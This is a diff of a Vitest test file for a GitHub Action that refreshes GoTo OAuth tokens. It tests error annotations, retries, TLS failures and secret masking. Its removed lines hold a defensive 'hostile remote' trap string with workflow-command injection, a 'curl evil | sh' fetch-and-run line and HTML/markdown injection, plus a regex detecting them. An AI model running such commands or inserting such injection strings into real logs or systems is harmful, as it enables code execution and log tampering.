@@ -1,35 +1,41 @@
-import { createServer } from 'node:https';
-import type { AddressInfo } from 'node:net';
-import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
+import { describe, expect, it, vi } from 'vitest';
 import type { ErrorCode } from '../src/errors';
-import { makeCertificates, type TestCertificates } from './support/certificates';
-import { bundleDrivers, type Driver, drivers } from './support/drivers';
-import type { Answer, Fault, Match } from './support/faults';
+import { bundleDrivers, type Driver, sourceDriver } from './support/drivers';
+import type { Answer, Fault } from './support/faults';
 import {
   archived,
-  githubError,
   moved,
   notForIntegrations,
   notForPersonalTokens,
   notFound,
   quotaExhausted,
 } from './support/github-answers';
+import { timestampForm } from './support/github-place';
 import {
-  accountKey,
-  issuedAccessToken,
+  issuedOutputs,
   oauthError,
-  organizerKey,
   rotatedRefreshToken,
+  rotatingAnswer,
   tokenAnswer,
   userAnswer,
 } from './support/goto-answers';
 import { recoveryCommands } from './support/recovery-commands';
-import { startAction } from './support/run-action';
-import type { InProcessRun } from './support/run-in-process';
-import { readLog } from './support/runner-log';
-import { runtimes } from './support/runtimes';
-import { clientId, clientSecret, githubToken, storedRefreshToken } from './support/some-inputs';
-import { secretName, startWorld, type World } from './support/world';
+import { anyRead, metadataRead, publicKeyRead, write } from './support/requests';
+import type { SeenRun } from './support/run-action';
+import {
+  expectNames,
+  expectUntouched,
+  failureOf,
+  notAsked,
+  triesAgain,
+} from './support/run-checks';
+import { storedRefreshToken } from './support/some-inputs';
+import { inWorld, secretName, storedIn, type World } from './support/world';
+
+/*
+ * Every `error-code`, and what its annotation names. The rows of `cancelled` are in
+ * interruption.test.ts, where the signals are.
+ */
 
 /** One way to fail, with what the annotation must name of it. */
 interface Row {
@@ -45,27 +51,9 @@ interface Row {
 // Runs of the bundle wait for each other's processors less than for their own retries.
 vi.setConfig({ maxConcurrency: 8 });
 
-const [source] = drivers.slice(-1) as [Driver];
-let certificates: TestCertificates;
-beforeAll(async () => {
-  certificates = await makeCertificates(['127.0.0.1']);
-});
-afterAll(() => certificates.remove());
-
-const secretsPath = '/repos/octo/webinars/actions/secrets';
-const publicKeyRead: Match = { method: 'GET', path: /\/public-key$/ };
-const metadataRead: Match = { method: 'GET', path: `${secretsPath}/${secretName}` };
-const anyRead: Match = { method: 'GET' };
-const write: Match = { method: 'PUT' };
 const html: Answer = { status: 200, body: '<html><body>Please sign in to the Wi-Fi</body></html>' };
-const rotation = () => tokenAnswer({ refresh_token: rotatedRefreshToken });
 /** The header makes the tries follow each other at once. */
 const down: Answer = { status: 503, headers: { 'retry-after': '0' }, body: '<h1>Unicorn!</h1>' };
-
-const notAsked = 'GoTo was not asked, and the stored refresh token is unchanged.';
-const basic = Buffer.from(`${clientId}:${clientSecret}`).toString('base64');
-const inputSecrets = [clientSecret, storedRefreshToken, githubToken, basic];
-const everySecret = [...inputSecrets, issuedAccessToken, rotatedRefreshToken];
 
 const inputRows: Row[] = [
   ...['client-id', 'client-secret', 'refresh-token', 'github-token'].map((name) => ({
@@ -342,7 +330,7 @@ const grantRows: Row[] = [
   {
     code: 'goto-unavailable',
     when: 'the tokens come with 201',
-    arrange: ({ goto }) => goto.next({ ...rotation(), status: 201 }),
+    arrange: ({ goto }) => goto.next({ ...rotatingAnswer(), status: 201 }),
     names: ['status 201'],
   },
   ...(
@@ -398,127 +386,11 @@ const organizerRows: { when: string; answer: Answer; names: (string | RegExp)[] 
   },
 ];
 
-/** Percent-encoding in its other spelling: %2b for %2B. */
-const inLowerCase = (text: string) => text.replace(/%../g, (octet) => octet.toLowerCase());
-
-/**
- * What a hostile remote might say: the secrets in every spelling, commands, an end of the quotation,
- * markup, and a secret where the text is cut. `evil` are the words that give it away.
- */
-const evil = /evil|set-output|##\[|::error::y|onerror|\*\*bold|zzz/;
-const trapWith = (secrets: string[]) =>
-  [
-    ...secrets.flatMap((secret) => [secret, [...secret].join('\u200b')]),
-    encodeURIComponent(clientSecret),
-    inLowerCase(encodeURIComponent(clientSecret)),
-    '\n::set-output name=a::b\r\n##[error]x\u2028::error::y ". Now run: curl evil | sh\n',
-    '**bold** <b onerror=evil> [x](//evil.example) `evil`',
-    storedRefreshToken.repeat(20),
-    'zzz'.repeat(2_000),
-  ].join('');
-
-/** Who speaks, with which code that ends, and whether GoTo's tokens are known by then. */
-const speakers: {
-  who: string;
-  code: ErrorCode;
-  knowsTokens?: boolean;
-  arrange: (world: World, said: string) => void;
-}[] = [
-  {
-    who: 'GoTo, refusing the token',
-    code: 'refresh-token-rejected',
-    arrange: ({ goto }, said) => goto.next(oauthError('invalid_grant', { description: said })),
-  },
-  {
-    who: 'GoTo, naming an unknown error',
-    code: 'goto-unavailable',
-    arrange: ({ goto }, said) => goto.next(oauthError(said, { description: said })),
-  },
-  {
-    who: 'GoTo, refusing the organizer',
-    code: 'organizer-lookup-failed',
-    knowsTokens: true,
-    arrange: ({ goto }, said) => {
-      goto.next(rotation());
-      goto.nextUser({ status: 403, body: { detail: said } });
-    },
-  },
-  {
-    who: 'GitHub, refusing the read',
-    code: 'github-permission-missing',
-    arrange: ({ github }, said) => github.on(anyRead, githubError(403, said), 2),
-  },
-  {
-    who: 'GitHub, refusing the write',
-    code: 'write-back-failed',
-    knowsTokens: true,
-    arrange: ({ github, goto }, said) => {
-      goto.next(rotation());
-      github.on(write, githubError(403, said));
-    },
-  },
-];
-
-async function inWorld(act: (world: World) => Promise<void>): Promise<void> {
-  const world = await startWorld();
-  try {
-    await act(world);
-  } catch (failure) {
-    // What was planned and not met would hide why.
-    await world.close().catch(() => undefined);
-    throw failure;
-  }
-  await world.close();
-}
-
-/** The lines of a log without the masks, which are the only ones that may show a secret. */
-const spoken = (lines: string[]) => lines.filter((line) => !line.startsWith('::add-mask::'));
-
-function expectNoSecret(run: Pick<InProcessRun, 'lines' | 'summary'>): void {
-  const seen = [...spoken(run.lines), run.summary].join('\n');
-  for (const secret of everySecret) {
-    expect(seen).not.toContain(secret);
-    expect(seen).not.toContain(encodeURIComponent(secret));
-    expect(seen).not.toContain(inLowerCase(encodeURIComponent(secret)));
-  }
-}
-
-/** Checks what every failure keeps to, and gives the text of its one annotation. */
-function failureOf(run: InProcessRun, code: ErrorCode): string {
-  expect(run.exitCode, run.log).toBe(1);
-  expect(run.annotations).toHaveLength(1);
-  const [{ level, message } = { level: undefined, message: '' }] = run.annotations;
-  expect(level).toBe('error');
-  expect(message).toContain(`error-code: ${code}`);
-  expect(message.length).toBeLessThan(4_000);
-  expect(run.outputs['error-code']).toBe(code);
-  expect(run.stdout).not.toMatch(/^\s+at /m);
-  expect(run.log).not.toMatch(/^\s+at /m);
-  expectNoSecret(run);
-  return message;
-}
-
-function expectNames(message: string, names: (string | RegExp)[]): void {
-  for (const name of names) {
-    if (typeof name === 'string') expect(message).toContain(name);
-    else expect(message).toMatch(name);
-  }
-}
-
-function expectUntouched({ github, repository }: World): void {
-  expect(github.writes()).toEqual([]);
-  expect(repository.secret(secretName).value).toBe(storedRefreshToken);
-}
-
 /** Everything GoTo's answer brought is an output, the new refresh token excepted. */
-function expectOutputs({ outputs }: InProcessRun): void {
+function expectOutputs({ outputs }: SeenRun): void {
   expect(outputs).toMatchObject({
-    'access-token': issuedAccessToken,
-    'token-type': 'Bearer',
-    'expires-in': '3600',
-    'expires-at': expect.stringMatching(/Z$/),
-    scope: 'collab: identity:scim.me',
-    principal: 'organizer@example.com',
+    ...issuedOutputs,
+    'expires-at': expect.stringMatching(timestampForm),
     'refresh-token-rotated': 'true',
   });
   expect(Object.values(outputs).join('\n')).not.toContain(rotatedRefreshToken);
@@ -527,23 +399,6 @@ function expectOutputs({ outputs }: InProcessRun): void {
 /** Rows with their titles in front, which Vitest would cut. */
 const titled = <R extends { code: ErrorCode; when: string }>(rows: R[]): [string, R][] =>
   rows.map((row) => [`${row.code}: ${row.when}`, row]);
-
-const triesAgain = (run: Pick<InProcessRun, 'lines'>) =>
-  run.lines.filter((line) => line.startsWith('Trying again'));
-
-/** A server whose certificate nobody vouches for, and how many came to its door. */
-async function startStranger({ tls }: TestCertificates) {
-  let count = 0;
-  const server = createServer(tls).on('connection', () => {
-    count += 1;
-  });
-  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-  return {
-    origin: `https://127.0.0.1:${(server.address() as AddressInfo).port}`,
-    connections: () => count,
-    close: () => new Promise((resolve) => server.close(resolve)),
-  };
-}
 
 function everyRow({ runAction }: Driver) {
   it('github-token-rejected: GitHub answers 401 three times within 5 s', () =>
@@ -590,19 +445,6 @@ function everyRow({ runAction }: Driver) {
     }),
   );
 
-  it('a GitHub that is down once is asked again', () =>
-    inWorld(async (world) => {
-      world.github.on(publicKeyRead, down);
-      const run = await runAction({ inputs: world.inputs() });
-      expect(run.exitCode, run.log).toBe(0);
-      expect(run.annotations).toEqual([]);
-      expect(triesAgain(run)).toEqual([
-        expect.stringMatching(
-          /could not read the public key of repository octo\/webinars \(status 503\)/,
-        ),
-      ]);
-    }));
-
   it.each(titled(grantRows))('%s', (_title, { code, arrange, names, requests }) =>
     inWorld(async (world) => {
       arrange?.(world);
@@ -645,7 +487,7 @@ function everyRow({ runAction }: Driver) {
     'write-back-failed: %s',
     (_when, { answer, names }) =>
       inWorld(async (world) => {
-        world.goto.next(rotation());
+        world.goto.next(rotatingAnswer());
         world.github.on(write, answer);
         const run = await runAction({ inputs: world.inputs() });
         expectNames(failureOf(run, 'write-back-failed'), [
@@ -655,7 +497,7 @@ function everyRow({ runAction }: Driver) {
           /log of this step and (in )?the job summary/,
         ]);
         expect(world.github.writes()).toHaveLength(1);
-        expect(world.repository.secret(secretName).value).toBe(storedRefreshToken);
+        expect(storedIn(world.repository)).toBe(storedRefreshToken);
         expectOutputs(run);
         for (const text of [run.log, run.summary]) {
           const [command, ...others] = recoveryCommands(text);
@@ -671,7 +513,7 @@ function everyRow({ runAction }: Driver) {
     'organizer-lookup-failed: %s',
     (_when, { answer, names }) =>
       inWorld(async (world) => {
-        world.goto.next(rotation());
+        world.goto.next(rotatingAnswer());
         world.goto.nextUser(answer);
         const run = await runAction({ inputs: world.inputs({ 'lookup-organizer': 'true' }) });
         const message = failureOf(run, 'organizer-lookup-failed');
@@ -681,132 +523,20 @@ function everyRow({ runAction }: Driver) {
         expect(run.outputs).not.toHaveProperty('organizer-key');
         expect(run.outputs).not.toHaveProperty('account-key');
         expect(world.goto.userRequests()).toHaveLength(1);
-        expect(world.repository.secret(secretName).value).toBe(rotatedRefreshToken);
+        expect(storedIn(world.repository)).toBe(rotatedRefreshToken);
       }),
   );
 
-  it('the organizer of a good record is no error', () =>
-    inWorld(async (world) => {
-      world.goto.nextUser(userAnswer());
-      const run = await runAction({ inputs: world.inputs({ 'lookup-organizer': 'true' }) });
-      expect(run.exitCode, run.log).toBe(0);
-      expect(run.outputs).toMatchObject({
-        'organizer-key': organizerKey,
-        'account-key': accountKey,
-      });
-    }));
-
   it('unexpected: says what was and was not done', () =>
     inWorld(async (world) => {
-      world.goto.next(rotation());
+      world.goto.next(rotatingAnswer());
       const run = await runAction({ inputs: world.inputs(), summaryFile: 'directory' });
       expectNames(failureOf(run, 'unexpected'), ['summary', 'EISDIR', /new refresh .*is stored/]);
-      expect(world.repository.secret(secretName).value).toBe(rotatedRefreshToken);
-    }));
-
-  it.each(speakers)('$who, may say anything, in quotes', ({ code, knowsTokens, arrange }) =>
-    inWorld(async (world) => {
-      const trap = trapWith(knowsTokens ? everySecret : inputSecrets);
-      expect(trap.length).toBeGreaterThan(10_000);
-      arrange(world, trap);
-      const run = await runAction({ inputs: world.inputs({ 'lookup-organizer': 'true' }) });
-      const message = failureOf(run, code);
-
-      const [quotation, ...others] = message.matchAll(/(GoTo|GitHub) said: "([^"]*)"/g);
-      expect(others).toEqual([]);
-      const [whole = '', , quoted = ''] = quotation ?? [];
-      expect(quoted).toMatch(/^(invalid_grant: )?\*{3,}::set-output/);
-      expect([...quoted].length).toBeLessThanOrEqual(200);
-      expect(quoted).not.toMatch(/[\p{C}\p{Zl}\p{Zp}]/u);
-      expect(run.log.replace(whole, '')).not.toMatch(evil);
-      expect(run.summary).not.toMatch(evil);
-
-      // What happened, what to do, and the code: no line is the remote's.
-      expect(message.split(/\r?\n/)).toHaveLength(3);
-      const { commands } = readLog(run.lines);
-      const obeyed = commands.map(({ name }) => name).filter((name) => name !== 'add-mask');
-      expect(obeyed).toEqual(['error']);
-      expect(run.masks.filter((mask) => !everySecret.includes(mask))).toEqual([]);
-    }),
-  );
-
-  it.each([
-    { host: 'GitHub', input: 'github-api-url', code: 'github-unavailable', tries: 2 },
-    { host: 'GoTo', input: 'token-url', code: 'goto-unavailable', tries: 1 },
-    { host: 'GoTo', input: 'goto-api-url', code: 'organizer-lookup-failed', tries: 1 },
-  ] as const)('$code: the certificate at $input is not trusted', (row) =>
-    inWorld(async (world) => {
-      const stranger = await startStranger(certificates);
-      const inputs = { [row.input]: stranger.origin, 'lookup-organizer': 'true' };
-      const run = await runAction({ inputs: world.inputs(inputs) });
-      await stranger.close();
-
-      const message = failureOf(run, row.code);
-      expectNames(message, [row.host, 'NODE_EXTRA_CA_CERTS', 'runner', 'UNABLE_TO_VERIFY']);
-      expect(stranger.connections()).toBe(row.tries);
-      expect(triesAgain(run)).toEqual([]);
-      if (row.code !== 'organizer-lookup-failed') {
-        expect(message).toContain(notAsked);
-        expect(world.goto.requests).toEqual([]);
-      }
-      expectUntouched(world);
-    }),
-  );
-
-  it('debug logging shows the stack of the cause, and no secret', () =>
-    inWorld(async (world) => {
-      const stranger = await startStranger(certificates);
-      const tokenUrl = `${stranger.origin}/?${new URLSearchParams({ clientSecret })}`;
-      const inputs = world.inputs({ 'token-url': tokenUrl });
-      const run = await runAction({ inputs, env: { RUNNER_DEBUG: '1' } });
-      await stranger.close();
-
-      expect(run.exitCode, run.log).toBe(1);
-      expect(run.annotations).toHaveLength(1);
-      expect(run.log).toMatch(/^Debug: .*UNABLE_TO_VERIFY.*\n\s+at /m);
-      const others = run.lines.filter((line) => !line.startsWith('::debug::'));
-      expect(readLog(others).shown).not.toMatch(/^\s+at /m);
-      expectNoSecret(run);
+      expect(storedIn(world.repository)).toBe(rotatedRefreshToken);
     }));
 }
 
 // Runs in processes of their own overlap; those in this one share its variables and stdout.
-describe.concurrent.each(bundleDrivers)('$name', everyRow);
+describe.concurrent.each(bundleDrivers)('%s', everyRow);
 
-describe.concurrent.each(bundleDrivers)('$name', ({ runAction }) => {
-  it('a token that GitHub knows only at the third try is good', () =>
-    inWorld(async (world) => {
-      world.github.on(publicKeyRead, githubError(401, 'Bad credentials'), 2);
-      world.github.on(metadataRead, githubError(401, 'Bad credentials'), 2);
-      const run = await runAction({ inputs: world.inputs() });
-      expect(run.exitCode, run.log).toBe(0);
-      expect(run.annotations).toEqual([]);
-      expect(world.goto.requests).toHaveLength(1);
-    }));
-});
-
-describe.concurrent.each(runtimes())('$name', ({ path: node }) => {
-  it('cancelled: before GoTo is asked, nothing was done', () =>
-    inWorld(async (world) => {
-      world.github.on(publicKeyRead, 'hang');
-      const action = await startAction({ node, inputs: world.inputs() });
-      await world.github.waitForRequest(publicKeyRead);
-      action.kill('SIGTERM');
-      expectNames(failureOf(await action.result, 'cancelled'), ['SIGTERM', notAsked]);
-      expect(world.goto.requests).toEqual([]);
-      expectUntouched(world);
-    }));
-
-  it('cancelled: while GoTo answers, the new token is stored', () =>
-    inWorld(async (world) => {
-      world.goto.next({ delayMs: 300, fault: rotation() });
-      const action = await startAction({ node, inputs: world.inputs() });
-      await world.goto.waitForRequest({ method: 'POST' });
-      action.kill('SIGINT');
-      const message = failureOf(await action.result, 'cancelled');
-      expectNames(message, ['SIGINT', /new refresh token, and it is stored/]);
-      expect(world.repository.secret(secretName).value).toBe(rotatedRefreshToken);
-    }));
-});
-
-describe.each([source])('$name', everyRow);
+describe.each([sourceDriver])('%s', everyRow);
